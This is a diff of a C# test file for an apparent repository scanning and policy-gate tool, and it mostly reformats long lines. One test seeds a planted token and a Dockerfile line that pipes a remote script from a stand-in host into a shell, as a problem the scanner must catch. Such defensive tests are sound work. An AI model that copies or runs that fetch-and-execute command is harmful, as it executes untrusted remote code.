@@ -13,7 +13,9 @@ public sealed class RunStories
     [Fact]
     public void CleanRepository_Holds()
     {
-        using var repository = new TempRepository().Write("README.md", "# Hello\n").Write("Dockerfile", $"FROM docker.io/library/alpine:3.22{Digest}\nCOPY . /app\n");
+        using var repository = new TempRepository().Write(
+            "README.md",
+            "# Hello\n").Write("Dockerfile", $"FROM docker.io/library/alpine:3.22{Digest}\nCOPY . /app\n");
         repository.Commit();
 
         var run = Run(repository.Path);
@@ -26,7 +28,9 @@ public sealed class RunStories
     public void PlantedProblems_FailAndNeverShowTheSecret()
     {
         var secret = Planted.GitHubToken;
-        using var repository = new TempRepository().Write("config/app.env", $"TOKEN={secret}\n").Write("Dockerfile", "FROM node\nRUN curl -s https://x.example/i.sh | sh\n");
+        using var repository = new TempRepository().Write(
+            "config/app.env",
+            $"TOKEN={secret}\n").Write("Dockerfile", "FROM node\nRUN curl -s https://x.example/i.sh | sh\n");
         repository.Commit();
 
         var run = Run(repository.Path);
@@ -50,7 +54,16 @@ public sealed class RunStories
         Run(repository.Path).ExitCode.ShouldBe(0);
 
         var output = Path.Combine(repository.Path, ".gates/out");
-        string[] expected = ["run.json", "report.html", "results.json", "results.sarif", "results.junit.xml", "summary.md", "evidence/dlp-scan.json", "settings/dlp-scan.json"];
+        string[] expected = [
+            "run.json",
+            "report.html",
+            "results.json",
+            "results.sarif",
+            "results.junit.xml",
+            "summary.md",
+            "evidence/dlp-scan.json",
+            "settings/dlp-scan.json"
+        ];
         expected.ShouldAllBe(name => File.Exists(Path.Combine(output, name)));
         Directory.GetFiles(Path.Combine(output, "policies"), "*.js").Length.ShouldBe(3);
         repository.Git("status", "--porcelain").ShouldBe("");
@@ -156,7 +169,9 @@ public sealed class RunStories
     public void OwnPolicyThatLoops_ErrorsItsGateAndKeepsTheOthers()
     {
         using var repository = new TempRepository()
-            .Write(".github/gates.yml", "version: 1\ngates:\n  dlp-scan: {}\n  mine: { policy: policies/mine, policy-timeout: 1s, facts: { files: [\"**\"] } }\n")
+            .Write(
+                ".github/gates.yml",
+                "version: 1\ngates:\n  dlp-scan: {}\n  mine: { policy: policies/mine, policy-timeout: 1s, facts: { files: [\"**\"] } }\n")
             .Write("policies/mine/policy.js", "function judge(evidence, settings, report) {\n  while (true) { }\n}\n")
             .Write("policies/mine/policy.json", "{ \"title\": \"Mine\", \"description\": \"Loops.\" }\n");
         repository.Commit();
@@ -173,6 +188,9 @@ public sealed class RunStories
     private static IEnumerable<string> Verdicts(string directory)
     {
         using var results = JsonDocument.Parse(File.ReadAllText(Path.Combine(directory, ".gates/out/results.json")));
-        return [.. results.RootElement.GetProperty("gates").EnumerateArray().Select(gate => $"{gate.GetProperty("id").GetString()} {gate.GetProperty("verdict").GetString()}")];
+        return [.. results.RootElement
+            .GetProperty("gates")
+            .EnumerateArray()
+            .Select(gate => $"{gate.GetProperty("id").GetString()} {gate.GetProperty("verdict").GetString()}")];
     }
 }
